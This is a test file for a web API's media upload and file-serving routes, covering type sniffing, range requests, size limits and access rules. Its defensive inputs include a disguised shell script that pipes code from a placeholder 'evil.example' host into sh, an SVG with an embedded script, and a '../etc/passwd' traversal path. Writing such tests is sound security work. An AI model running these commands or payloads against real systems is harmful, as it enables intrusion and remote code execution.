import fs from 'node:fs/promises';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeMedia } from '../../../testing/fixture-media.ts';
import { createTestApp, type TestApp } from '../../../testing/test-app.ts';
import { bearer, signUp } from '../../../testing/auth-helpers.ts';
import { multipartBody, streamedMultipartFile } from '../../../testing/multipart.ts';
import { insertBrand } from '../../../testing/catalog-fixtures.ts';
import { signUpOperator } from '../../../testing/operator-helpers.ts';
import { isoMediaVideo, recordedVideos, webmVideo } from '../../../testing/video-fixtures.ts';

let t: TestApp;
let admin: Awaited<ReturnType<typeof signUpOperator>>;
let png: Buffer;

beforeAll(async () => {
  t = await createTestApp();
  admin = await signUpOperator(t, 'admin');
  png = await sharp({ create: { width: 64, height: 48, channels: 4, background: '#7c3aed' } })
    .png()
    .toBuffer();
});
afterAll(() => t.close());

function upload(body: { payload: unknown; headers: Record<string, string> }, token = admin.accessToken) {
  return t.app.inject({
    method: 'POST',
    url: '/v1/console/media',
    payload: body.payload as Buffer,
    headers: { ...body.headers, ...bearer(token) },
  });
}

const storedFiles = async () => (await fs.readdir(t.uploadsDir)).filter((name) => !name.endsWith('.content-type'));

describe('POST /v1/console/media', () => {
  it('decides the type by the bytes: a PNG named .jpg is stored and served as a PNG, with a WebP thumbnail', async () => {
    const response = await upload(
      multipartBody([{ name: 'file', filename: 'photo.jpg', contentType: 'image/jpeg', content: png }]),
    );
    expect(response.statusCode).toBe(201);
    const data = response.json().data;
    expect(data).toEqual({
      url: expect.stringMatching(/^\/uploads\/[0-9a-f]{32}\.png$/),
      width: 64,
      height: 48,
      contentType: 'image/png',
      thumbnailUrl: expect.stringMatching(/^\/uploads\/[0-9a-f]{32}-thumb\.webp$/),
    });

    const served = await t.app.inject({ method: 'GET', url: data.url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(await sharp(served.rawPayload).metadata()).toMatchObject({ format: 'png', width: 64, height: 48 });
    const thumbnail = await t.app.inject({ method: 'GET', url: data.thumbnailUrl });
    expect(thumbnail.headers['content-type']).toBe('image/webp');

    const audit = await t.app.inject({
      method: 'GET',
      url: '/v1/console/audit-log?entityType=media',
      headers: bearer(admin.accessToken),
    });
    expect(audit.json().data.items[0]).toMatchObject({
      action: 'upload',
      actor: { id: admin.userId },
      after: { url: data.url },
    });
  });

  it('refuses a script named .png, and an SVG, with UNSUPPORTED_MIMETYPE, storing nothing', async () => {
    const before = await storedFiles();
    const script = '#!/bin/sh\ncurl https://evil.example | sh\n';
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    for (const [filename, content] of [
      ['innocent.png', script],
      ['logo.svg', svg],
    ]) {
      const response = await upload(
        multipartBody([{ name: 'file', filename, contentType: 'image/png', content: content! }]),
      );
      expect(response.statusCode, filename).toBe(400);
      expect(response.json()).toEqual({ code: 'UNSUPPORTED_MIMETYPE', message: 'Unsupported file type.' });
    }
    expect(await storedFiles()).toEqual(before);
  });

  it('refuses a file that starts like a PNG but is not one with IMAGE_UNREADABLE', async () => {
    const broken = Buffer.concat([png.subarray(0, 16), Buffer.alloc(200, 7)]);
    const response = await upload(multipartBody([{ name: 'file', filename: 'broken.png', content: broken }]));
    expect(response.statusCode).toBe(400);
    expect(response.json().code).toBe('IMAGE_UNREADABLE');
  });

  it('answers UPLOAD_FILE_ABSENT when no file is sent: only fields, another field name, or no multipart at all', async () => {
    const bodies = [
      multipartBody([{ name: 'caption', content: 'hello' }]),
      multipartBody([{ name: 'image', filename: 'a.png', content: png }]),
      { payload: JSON.stringify({ file: 'a.png' }), headers: { 'content-type': 'application/json' } },
    ];
    for (const body of bodies) {
      const response = await upload(body);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ code: 'UPLOAD_FILE_ABSENT', message: 'No registered file.' });
    }
  });

  it('refuses an oversized upload while it streams, never holding the body, and stores nothing', async () => {
    const before = await storedFiles();
    const totalBytes = 64 * 1024 * 1024;
    const body = streamedMultipartFile(
      { name: 'file', filename: 'huge.png', contentType: 'image/png' },
      png.subarray(0, 64),
      totalBytes,
    );
    global.gc?.();
    const baseline = process.memoryUsage();
    let peak = 0;
    const sampler = setInterval(() => {
      const now = process.memoryUsage();
      peak = Math.max(peak, now.arrayBuffers - baseline.arrayBuffers + (now.heapUsed - baseline.heapUsed));
    }, 5);
    const response = await upload(body);
    clearInterval(sampler);

    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ code: 'FILE_TOO_LARGE', message: 'Size to large to Accept' });
    // The limit is 10 MB; a server that buffered the body would have grown by the whole 64 MB.
    expect(peak).toBeLessThan(40 * 1024 * 1024);
    expect(await storedFiles()).toEqual(before);
  });

  it('is for operators only', async () => {
    const body = multipartBody([{ name: 'file', filename: 'a.png', content: png }]);
    const collector = await signUp(t);
    expect((await upload(body, collector.accessToken)).statusCode).toBe(403);
    const anonymous = await t.app.inject({
      method: 'POST',
      url: '/v1/console/media',
      payload: body.payload,
      headers: body.headers,
    });
    expect(anonymous.statusCode).toBe(401);
  });
});

/** The first bytes of an ISO media file of `brand` (an image for heic or avif, QuickTime for qt), padded. */
function isoMedia(brand: string): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from(`ftyp${brand}`), Buffer.from([0, 0, 2, 0])]);
  return Buffer.concat([ftyp, Buffer.from(`${brand}iso2`), Buffer.alloc(4096, 1)]);
}
const webm = webmVideo();

function uploadAnimation(body: { payload: unknown; headers: Record<string, string> }, token = admin.accessToken) {
  return t.app.inject({
    method: 'POST',
    url: '/v1/console/media/animations',
    payload: body.payload as Buffer,
    headers: { ...body.headers, ...bearer(token) },
  });
}

describe('POST /v1/console/media/animations', () => {
  it('answers a range of a long video with 2 MB at most, from where it was asked, so a paused player holds little', async () => {
    const long = isoMediaVideo('isom', 5 * 1024 * 1024);
    const response = await uploadAnimation(multipartBody([{ name: 'file', filename: 'long.mp4', content: long }]));
    expect(response.statusCode).toBe(201);
    const { url } = response.json().data;
    const twoMb = 2 * 1024 * 1024;
    for (const [range, start] of [
      ['bytes=0-', 0],
      ['bytes=1000-', 1000],
      [`bytes=-${3 * 1024 * 1024}`, long.length - 3 * 1024 * 1024],
    ] as const) {
      const part = await t.app.inject({ method: 'GET', url, headers: { range } });
      expect(part.statusCode, range).toBe(206);
      expect(part.headers['content-range'], range).toBe(`bytes ${start}-${start + twoMb - 1}/${long.length}`);
      expect(part.headers['content-length'], range).toBe(String(twoMb));
      expect(Buffer.compare(part.rawPayload, long.subarray(start, start + twoMb)), range).toBe(0);
    }
  });

  it('stores an MP4 or a WebM by its bytes, serves it by ranges, and a product carries it', async () => {
    const mp4 = isoMediaVideo('isom');
    const response = await uploadAnimation(
      multipartBody([{ name: 'file', filename: 'loop.mov', contentType: 'video/quicktime', content: mp4 }]),
    );
    expect(response.statusCode).toBe(201);
    const uploaded = response.json().data;
    expect(uploaded).toEqual({
      url: expect.stringMatching(/^\/uploads\/[0-9a-f]{32}\.mp4$/),
      contentType: 'video/mp4',
      bytes: mp4.length,
    });
    const whole = await t.app.inject({ method: 'GET', url: uploaded.url });
    expect(whole.statusCode).toBe(200);
    expect(whole.headers['content-type']).toBe('video/mp4');
    expect(whole.headers['accept-ranges']).toBe('bytes');
    expect(Buffer.compare(whole.rawPayload, mp4)).toBe(0);
    // A browser's player asks for the start, then the rest, then the end.
    for (const [range, start, end] of [
      ['bytes=0-1', 0, 1],
      ['bytes=100-', 100, mp4.length - 1],
      ['bytes=-10', mp4.length - 10, mp4.length - 1],
    ] as const) {
      const part = await t.app.inject({ method: 'GET', url: uploaded.url, headers: { range } });
      expect(part.statusCode, range).toBe(206);
      expect(part.headers['content-range']).toBe(`bytes ${start}-${end}/${mp4.length}`);
      expect(part.headers['content-length'], range).toBe(String(end - start + 1));
      expect(Buffer.compare(part.rawPayload, mp4.subarray(start, end + 1)), range).toBe(0);
    }
    // One it cannot meet is answered with the whole file.
    const beyond = await t.app.inject({ method: 'GET', url: uploaded.url, headers: { range: 'bytes=99999-' } });
    expect(beyond.statusCode).toBe(200);
    expect(beyond.headers['content-length']).toBe(String(mp4.length));

    const webmResponse = await uploadAnimation(multipartBody([{ name: 'file', filename: 'loop', content: webm }]));
    expect(webmResponse.statusCode).toBe(201);
    expect(webmResponse.json().data).toMatchObject({
      url: expect.stringMatching(/\.webm$/),
      contentType: 'video/webm',
    });

    const brand = await insertBrand(t.database.db);
    const [still] = await storeMedia(t.storage, ['vela.png']);
    const created = await t.app.inject({
      method: 'POST',
      url: '/v1/console/products',
      headers: bearer(admin.accessToken),
      payload: {
        brandId: brand.id,
        name: 'Looping Vela',
        rarity: 'EPIC',
        imageUrl: still,
        animationUrl: uploaded.url,
      },
    });
    expect(created.statusCode).toBe(201);
    expect(created.json().data.animationUrl).toBe(uploaded.url);
    const productId = created.json().data.id;
    const cleared = await t.app.inject({
      method: 'PATCH',
      url: `/v1/console/products/${productId}`,
      headers: bearer(admin.accessToken),
      payload: { animationUrl: '' },
    });
    expect(cleared.json().data.animationUrl).toBeNull();
    const refused = await t.app.inject({
      method: 'PATCH',
      url: `/v1/console/products/${productId}`,
      headers: bearer(admin.accessToken),
      payload: { animationUrl: '/uploads/vela.png' },
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().details).toEqual([{ field: 'animationUrl', message: 'Upload an MP4 or WebM video.' }]);
  });

  it('refuses an image with IMAGE_NOT_ALLOWED_IN_MEDIA_FIELD and anything else with UNSUPPORTED_MIMETYPE, storing nothing', async () => {
    const before = await storedFiles();
    for (const [filename, content] of [
      ['still.mp4', png],
      ['photo.mp4', isoMedia('heic')],
      ['photo.mp4', isoMedia('avif')],
    ] as const) {
      const response = await uploadAnimation(multipartBody([{ name: 'file', filename, content }]));
      expect(response.statusCode, filename).toBe(400);
      expect(response.json()).toEqual({
        code: 'IMAGE_NOT_ALLOWED_IN_MEDIA_FIELD',
        message: 'Unsupported content type.',
      });
    }
    for (const content of [
      Buffer.from('#!/bin/sh\nexit 0\n'),
      isoMedia('qt  '),
      Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0, 0]),
      // Session 68's API hunt: a video's first bytes before anything else were taken as a video.
      isoMedia('isom'),
      Buffer.concat([isoMediaVideo(), Buffer.alloc(64, 0xff)]),
      recordedVideos.webm.subarray(0, recordedVideos.webm.length - 10),
    ]) {
      const response = await uploadAnimation(multipartBody([{ name: 'file', filename: 'clip.webm', content }]));
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ code: 'UNSUPPORTED_MIMETYPE', message: 'Unsupported file type.' });
    }
    expect(await storedFiles()).toEqual(before);
  });

  it('is for operators only', async () => {
    const body = multipartBody([{ name: 'file', filename: 'a.mp4', content: isoMediaVideo('mp42') }]);
    const collector = await signUp(t);
    expect((await uploadAnimation(body, collector.accessToken)).statusCode).toBe(403);
  });
});

describe('GET /uploads/{name}', () => {
  it("answers HEAD with the whole file's type and size from the store, without opening the file", async () => {
    const video = isoMediaVideo('isom', 3 * 1024 * 1024);
    const { url } = (
      await uploadAnimation(multipartBody([{ name: 'file', filename: 'long.mp4', content: video }]))
    ).json().data;
    const open = t.storage.open;
    let opened = 0;
    t.storage.open = (...args) => {
      opened += 1;
      return open.apply(t.storage, args);
    };
    try {
      for (const headers of [{}, { range: 'bytes=0-' }]) {
        const head = await t.app.inject({ method: 'HEAD', url, headers });
        expect(head.statusCode).toBe(200);
        expect(head.headers['content-type']).toBe('video/mp4');
        expect(head.headers['content-length']).toBe(String(video.length));
        expect(head.headers['accept-ranges']).toBe('bytes');
        expect(head.headers['cache-control']).toContain('immutable');
        expect(head.rawPayload.length).toBe(0);
      }
      expect(opened).toBe(0);
      const missing = await t.app.inject({ method: 'HEAD', url: '/uploads/0000.mp4' });
      expect(missing.statusCode).toBe(404);
    } finally {
      t.storage.open = open;
    }
  });

  it("answers a size of an image from the size alone, GET and HEAD, opening the original's file neither time", async () => {
    const { url } = (await upload(multipartBody([{ name: 'file', filename: 'art.png', content: png }]))).json().data;
    const { open, stat } = t.storage;
    const asked: string[] = [];
    t.storage.open = (...args) => {
      asked.push(`open ${args[0]}`);
      return open.apply(t.storage, args);
    };
    t.storage.stat = (key) => {
      asked.push(`stat ${key}`);
      return stat.call(t.storage, key);
    };
    try {
      for (const method of ['GET', 'HEAD'] as const) {
        const variant = await t.app.inject({ method, url: `${url}?w=320` });
        expect(variant.statusCode, method).toBe(200);
        expect(variant.headers['content-type']).toBe('image/webp');
      }
      // The route answered from the variant, then went on to open the file too (a handle left to the collector).
      expect(asked).toEqual([]);
    } finally {
      Object.assign(t.storage, { open, stat });
    }
  });

  it('answers a file whose read fails before its first byte with INTERNAL_ERROR, without the caching or range meant for the file', async () => {
    const response = await upload(multipartBody([{ name: 'file', filename: 'art.png', content: png }]));
    const { url } = response.json().data;
    const whole = await t.app.inject({ method: 'GET', url, headers: { range: 'bytes=0-9' } });
    expect(whole.statusCode).toBe(206);
    expect(whole.headers['cache-control']).toContain('immutable');

    // The disk fails as the read starts (EIO): the route has set the year's caching and the range by then.
    const open = t.storage.open;
    t.storage.open = async (key, pickRange) => {
      const file = await open.call(t.storage, key, pickRange);
      file?.body.destroy();
      const failing = new Readable({
        read() {
          this.destroy(Object.assign(new Error('i/o error'), { code: 'EIO' }));
        },
      });
      return file && { ...file, body: failing };
    };
    try {
      const failed = await t.app.inject({ method: 'GET', url, headers: { range: 'bytes=0-9' } });
      expect(failed.statusCode).toBe(500);
      expect(failed.json().code).toBe('INTERNAL_ERROR');
      expect(failed.headers['cache-control']).toBeUndefined();
      expect(failed.headers['content-range']).toBeUndefined();
      expect(failed.headers['accept-ranges']).toBeUndefined();
      expect(failed.headers['content-type']).toContain('application/json');
    } finally {
      t.storage.open = open;
    }
  });

  it('answers MEDIA_NOT_FOUND for unknown names and for anything that tries to leave the folder', async () => {
    for (const url of [
      '/uploads/0000.png',
      '/uploads/..%2F..%2Fetc%2Fpasswd',
      '/uploads/.content-type',
      '/uploads/a.png.content-type',
    ]) {
      const response = await t.app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(404);
      expect(response.json().code).toBe('MEDIA_NOT_FOUND');
    }
  });
});
